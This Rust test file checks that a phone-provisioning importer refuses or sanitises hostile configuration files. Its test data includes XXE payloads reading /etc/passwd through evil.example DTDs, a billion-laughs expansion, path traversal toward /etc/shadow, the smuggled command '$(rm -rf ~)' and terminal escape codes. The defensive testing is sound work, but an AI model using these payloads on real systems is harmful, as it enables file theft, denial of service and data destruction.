//! Files that mean harm: refused, or reduced to what is right in them, in bounded time and memory.
//!
//! Each is given to the reader its shape asks for and to all others as well. The room knows no
//! files and no sockets, so what is left to go wrong is a panic, growth, a password where none
//! belongs, and a profile that is none.

use std::fmt::Write as _;
use std::time::Duration;

use phone::profile::{Encryption, Transport, Trust};
use provision::{Format, Import, LONGEST, Note, Refusal, detect, import};
use sim::worked;

use crate::report::report;

/// What the slowest of them may keep the processor, unoptimised.
const LIMIT: Duration = Duration::from_secs(5);

/// A right beginning of each format, with a place for what is wrong.
const YEALINK: &str = "#!version:1.0.0.1\naccount.1.enable = 1\naccount.1.user_name = 102\n\
    account.1.password = Planted-Secret\naccount.1.sip_server.1.address = pbx.example.com\n";
const LINPHONE: &str = "<config><section name=\"proxy_0\">\
    <entry name=\"reg_identity\">sip:102@pbx.example.com</entry></section>";

/// Reads it with every reader, and as what it is detected to be; gives the latter.
fn endure(name: &str, bytes: &[u8]) -> Import {
    let (told, took) = worked(|| endure_all(name, bytes));
    assert!(took < LIMIT, "{name} took {took:?}");
    told
}

fn endure_all(name: &str, bytes: &[u8]) -> Import {
    let mut told = None;
    let detected = detect(name, bytes);
    for format in Format::READABLE.into_iter().chain([detected]) {
        let found = import(format, bytes);
        assert!(found.profile.lines.len() <= 64, "{name}");
        assert!(found.profile.keys.len() <= 1_024, "{name}");
        assert!(
            found.is_usable() || found.profile.lines.is_empty(),
            "{name}: {:?}",
            found.refusals
        );
        let shown = format!("{found:?}{}", report(&found));
        assert!(!shown.contains("Planted-Secret"), "{name} {format:?}\n{shown}");
        assert!(!shown.contains(['\u{0}', '\u{1b}', '\u{202e}']), "{name} {format:?}");
        if !found.profile.lines.is_empty() {
            let text = storage::profile::text(&found.profile, None);
            storage::profile::parse(&text, name).unwrap_or_else(|e| panic!("{name}: {e}\n{text}"));
        }
        if format == detected {
            told = Some(found);
        }
    }
    told.expect("it has been read")
}

fn refused(name: &str, bytes: &[u8]) -> Refusal {
    let import = endure(name, bytes);
    let refusal = import.refusals.into_iter().next();
    refusal.unwrap_or_else(|| panic!("{name} is not refused: {:?}", import.profile))
}

fn reduced(name: &str, text: &str) -> Import {
    let import = endure(name, text.as_bytes());
    assert_eq!(import.refusals, [], "{name}");
    assert_eq!(import.profile.lines.len(), 1, "{name}: {:?}", import.profile);
    assert_eq!(import.profile.lines[0].number, "102", "{name}");
    import
}

#[test]
fn what_reaches_for_other_files_is_refused() {
    for (name, text) in [
        (
            "an external entity",
            "<!DOCTYPE c [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><config><section name=\"proxy_0\"><entry name=\"reg_identity\">&x;</entry></section></config>",
        ),
        (
            "an external document type",
            "<!DOCTYPE config SYSTEM \"http://evil.example/x.dtd\"><config/>",
        ),
        (
            "a public document type",
            "<!DOCTYPE config PUBLIC \"-//X//X\" \"http://evil.example/x\"><flat-profile/>",
        ),
        (
            "a parameter entity",
            "<!DOCTYPE c [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]><settings><phone-settings/></settings>",
        ),
        (
            "entities that laugh",
            "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;\">]><account><title>&d;</title></account>",
        ),
        ("a document type behind a comment", "<!-- x --><!DOCTYPE x []><gs_provision/>"),
        (
            "an entity of attributes",
            "<!DOCTYPE x [<!ENTITY e \"v\">]><polycomConfig reg.1.address=\"&e;\"/>",
        ),
    ] {
        let refusal = refused(name, text.as_bytes());
        assert!(matches!(refusal, Refusal::DocumentType(1)), "{name}: {refusal:?}");
    }
    for (name, text) in [
        ("an entity nobody declared", format!("{LINPHONE}<a>&xxe;</a></config>")),
        ("an entity in an attribute", format!("{LINPHONE}<a b='&xxe;'/></config>")),
        ("an impossible letter", format!("{LINPHONE}<a>&#x110000;</a></config>")),
        ("half a surrogate", format!("{LINPHONE}<a>&#xd800;</a></config>")),
        ("an element that never ends", format!("{LINPHONE}<a>")),
        ("elements that cross", format!("{LINPHONE}<a><b></a></b></config>")),
        ("an end without a beginning", format!("{LINPHONE}</x></config>")),
        ("a comment that never ends", format!("{LINPHONE}<!-- ")),
        ("a text that never ends", format!("{LINPHONE}<![CDATA[ ")),
    ] {
        let refusal = refused(name, text.as_bytes());
        assert!(matches!(refusal, Refusal::Malformed(1)), "{name}: {refusal:?}");
    }
}

#[test]
fn what_is_too_much_is_refused_soon() {
    let huge = vec![b'a'; LONGEST + 1];
    assert_eq!(refused("a megabyte of nothing", &huge), Refusal::TooLong);
    let claimed = [YEALINK.as_bytes(), &vec![b'#'; LONGEST]].concat();
    assert_eq!(refused("a long remark", &claimed), Refusal::TooLong);
    let depth = format!("<config>{}", "<section>".repeat(110_000));
    assert_eq!(refused("a hundred thousand deep", depth.as_bytes()), Refusal::TooMuch);
    let deep = format!("<config>{}", "<section>".repeat(1_000_000));
    assert_eq!(refused("a million deep", deep.as_bytes()), Refusal::TooLong);
    let wide = format!("<config>{}</config>", "<section/>".repeat(30_000));
    assert_eq!(refused("thirty thousand elements", wide.as_bytes()), Refusal::TooMuch);
    let attributes = format!("<polycomConfig reg.1.x='1' {}/>", "a='1' ".repeat(9_000));
    assert_eq!(refused("nine thousand attributes", attributes.as_bytes()), Refusal::TooMuch);
    let value = format!("{YEALINK}account.1.label = {}\n", "x".repeat(9_000));
    assert_eq!(refused("a value without an end", value.as_bytes()), Refusal::TooMuch);
    let key = format!("{YEALINK}{} = 1\n", "k.".repeat(400));
    assert_eq!(refused("a key without an end", key.as_bytes()), Refusal::TooMuch);
    let rows = "k=1\n".repeat(30_000);
    assert_eq!(
        refused("rows without an end", (YEALINK.to_owned() + &rows).as_bytes()),
        Refusal::TooMuch
    );
    let text = format!("{LINPHONE}<a>{}</a></config>", "t".repeat(9_000));
    assert_eq!(refused("a text without an end", text.as_bytes()), Refusal::TooMuch);
    let cells = format!("number,server\n{}\n", ",".repeat(30_000));
    assert_eq!(refused("cells without an end", cells.as_bytes()), Refusal::TooMuch);
    let parameters = format!("<sip:102@pbx.example.com>{}\n", ";a=b".repeat(30_000));
    assert_eq!(refused("parameters without an end", parameters.as_bytes()), Refusal::TooMuch);
}

#[test]
fn more_lines_and_keys_than_a_telephone_has_are_told_and_left_out() {
    let mut text = "#!version:1.0.0.1\n".to_owned();
    for line in 1..=200 {
        write!(text, "account.{line}.user_name = {line}\naccount.{line}.sip_server.1.address = pbx.example.com\n").expect("it is memory");
    }
    for key in 1..=2_000 {
        write!(text, "linekey.{key}.type = 13\nlinekey.{key}.value = {key}\n")
            .expect("it is memory");
    }
    text += "account.4294967295.user_name = 1\naccount.99999999999999999999.user_name = 1\n";

    let import = endure("a large office", text.as_bytes());

    assert_eq!(import.profile.lines.len(), 64);
    assert!(import.profile.keys.len() <= 1_024);
    let too_many = import.unsupported.iter().filter(|it| it.note == Some(Note::TooMany)).count();
    assert!(2_000 < too_many, "{too_many}");
}

#[test]
fn what_is_no_text_is_refused_and_what_is_in_another_encoding_is_read() {
    for (name, bytes) in [
        ("zeros", &b"account.1.user_name = 1\0\0\0"[..]),
        ("a program", b"\x7fELF\x02\x01\x01\0\0\0\0"),
        ("an archive", b"PK\x03\x04\x14\0\0\0\x08\0"),
        ("utf-16 without its second half", b"\xff\xfea\0c"),
        ("utf-16 with half a pair", b"\xff\xfe\x00\xd8a\0"),
        ("bells", &[7; 200]),
    ] {
        let refusal = refused(name, bytes);
        assert!(matches!(refusal, Refusal::NoText | Refusal::Unknown), "{name}: {refusal:?}");
    }
    assert_eq!(refused("nothing", b""), Refusal::Unknown);
    assert_eq!(refused("a mark alone", b"\xef\xbb\xbf"), Refusal::Unknown);
    assert_eq!(refused("encrypted by openssl", b"Salted__\x01\x02\x03\x04"), Refusal::Encrypted);
    assert_eq!(refused("y000000000066.enc", YEALINK.as_bytes()), Refusal::Encrypted);
    reduced("a mark before it", &format!("\u{feff}{YEALINK}"));
    reduced("returns alone", &YEALINK.replace('\n', "\r"));
    reduced("returns as well", &YEALINK.replace('\n', "\r\n"));
    let wide: Vec<u8> =
        [0xfe, 0xff].into_iter().chain(YEALINK.encode_utf16().flat_map(u16::to_be_bytes)).collect();
    assert_eq!(endure("the other utf-16", &wide).profile.lines[0].number, "102");
    let latin = [YEALINK.as_bytes(), b"account.1.label = B\xfcro\n"].concat();
    assert_eq!(endure("latin", &latin).profile.lines[0].label, "Büro");
}

#[test]
fn a_template_that_nobody_filled_in_is_refused_with_the_place() {
    for (blank, row) in [
        ("{$mac}", "account.1.label = {$mac}"),
        ("%%PASSWORD%%", "account.1.auth_name = %%PASSWORD%%"),
        ("{{ user }}", "account.1.display_name = {{ user }}"),
        ("${extension}", "account.1.label = x${extension}y"),
        ("{$password_line['1']}", "account.1.label = {$password_line['1']}"),
    ] {
        let refusal = refused(blank, format!("{YEALINK}{row}\n").as_bytes());
        assert_eq!(refusal, Refusal::Placeholder(6, blank.into()));
    }
    // A digit map has braces and dollars, too.
    reduced(
        "a digit map",
        &format!("{YEALINK}account.1.dialplan.digitmap.string = {{ x+ | \\+x+ }}\n"),
    );
}

#[test]
fn a_wrong_value_costs_itself_alone() {
    let told = |name: &str, row: &str, note: Note| {
        let import = reduced(name, &format!("{YEALINK}{row}\n"));
        let remark = import.unsupported.iter().find(|it| it.line_no == 6);
        let remark = remark.unwrap_or_else(|| panic!("{name}: {}", report(&import)));
        assert_eq!(remark.note, Some(note), "{name}");
        import
    };
    for (name, row) in [
        ("a port beyond all", "account.1.sip_server.1.port = 65536"),
        ("a port of letters", "account.1.sip_server.1.port = sip"),
        ("a port below", "account.1.sip_server.1.port = -1"),
        ("a time of letters", "account.1.sip_server.1.expires = soon"),
        ("a time without an end", "account.1.sip_server.1.expires = 99999999999999999999"),
        ("neither yes nor no", "account.1.outbound_proxy_enable = perhaps"),
        ("a transport nobody has", "account.1.sip_server.1.transport_type = 9"),
        ("a path for a proxy", "account.1.outbound_proxy.1.address = ../../../etc/passwd"),
        ("a row break in a proxy", "account.1.outbound_proxy.1.address = a b"),
        ("a proxy of letters beyond", "account.1.outbound_proxy.1.address = ……"),
        ("digits nobody knows", "account.1.dtmf.type = 77"),
        ("an impossible count", "account.1.number_of_linekey = 0x10"),
    ] {
        told(name, row, Note::NotUnderstood);
    }
    told("a number of letters", "voice_mail.number.1 = voicemail", Note::NoNumber);
    told("a link", "wallpaper_upload.url = http://evil.example/x.png", Note::Link);
    told("a file", "firmware.url = file:///etc/shadow", Note::Link);
    let import =
        told("a password in a link", "a.url = https://u:Planted-Secret@evil.example/", Note::Link);
    assert!(import.unsupported.iter().any(|it| it.value.is_none()));
    told("a shell", "account.1.label2 = $(rm -rf ~)", Note::Unknown);
    told(
        "the secret of a line elsewhere",
        "phone.note = the code is Planted-Secret",
        Note::Unknown,
    );
}

#[test]
fn what_stands_there_twice_counts_once_and_is_told() {
    let twice = format!("{YEALINK}account.1.label = One\naccount.1.label = Two\n");
    let import = reduced("a label twice", &twice);
    assert_eq!(import.profile.lines[0].label, "Two");
    assert!(import.mapped.iter().any(|it| it.line_no == 6 && it.note == Some(Note::Twice)));

    let import = reduced("a password twice", &format!("{YEALINK}account.1.password = Other\n"));
    assert_eq!(import.secrets.len(), 1);
    assert_eq!(import.secrets[0].1.expose(), b"Other");

    let doubled = "<flat-profile><User_ID_1_>101</User_ID_1_><User_ID_1_>102</User_ID_1_>\
        <Proxy_1_>pbx.example.com</Proxy_1_></flat-profile>";
    reduced("an element twice", doubled);
    let attributes = "<polycomConfig reg.1.address='101' reg.1.address='102' \
        reg.1.server.1.address='pbx.example.com'/>";
    reduced("an attribute twice", attributes);
}

#[test]
fn encryption_that_is_demanded_is_not_talked_away() {
    let linphone = |first: &str, second: &str| {
        let entry = |(name, value): (&str, &str)| format!("<entry name='{name}'>{value}</entry>");
        let pair = |text: &str| entry(text.split_once('=').expect("a pair"));
        format!("{LINPHONE}<section name='sip'>{}{}</section></config>", pair(first), pair(second))
    };
    for (first, second) in [
        ("media_encryption_mandatory=1", "media_encryption=none"),
        ("media_encryption=none", "media_encryption_mandatory=1"),
        ("media_encryption_mandatory=1", "media_encryption_mandatory=0"),
    ] {
        let import = endure(first, linphone(first, second).as_bytes());
        assert_eq!(import.profile.lines[0].encryption, Some(Encryption::Required), "{first}");
    }
    for (value, wanted) in
        [("0", None), ("1", Some(Encryption::Preferred)), ("2", Some(Encryption::Required))]
    {
        let row = format!("account.1.srtp_encryption = {value}");
        let import = reduced(&row, &format!("{YEALINK}{row}\n"));
        assert_eq!(import.profile.lines[0].encryption, wanted, "{row}");
    }
    for row in [
        "account.1.sip_server.1.transport_type = 2",
        "account.1.outbound_proxy.1.address = sips:edge.example.com",
        "account.1.outbound_proxy.1.address = edge.example.com;transport=tls\naccount.1.transport = 0",
    ] {
        let import = reduced(row, &format!("{YEALINK}{row}\n"));
        assert_eq!(import.profile.gateways[0].transport, Transport::Tls, "{row}");
        assert_eq!(import.profile.gateways[0].trust, Trust::default(), "{row}");
    }
}

#[test]
fn labels_hold_nothing_that_a_terminal_or_a_window_obeys() {
    let text = format!(
        "{YEALINK}account.1.label = a\u{1b}[31mb\u{202e}c\u{7}\naccount.1.display_name = {}\n",
        "é".repeat(500)
    );
    let import = reduced("labels", &text);
    let line = &import.profile.lines[0];
    assert!(line.label.chars().all(|letter| !letter.is_control() && letter != '\u{202e}'));
    assert!(line.display_name.as_ref().is_some_and(|name| name.chars().count() <= 64));
}
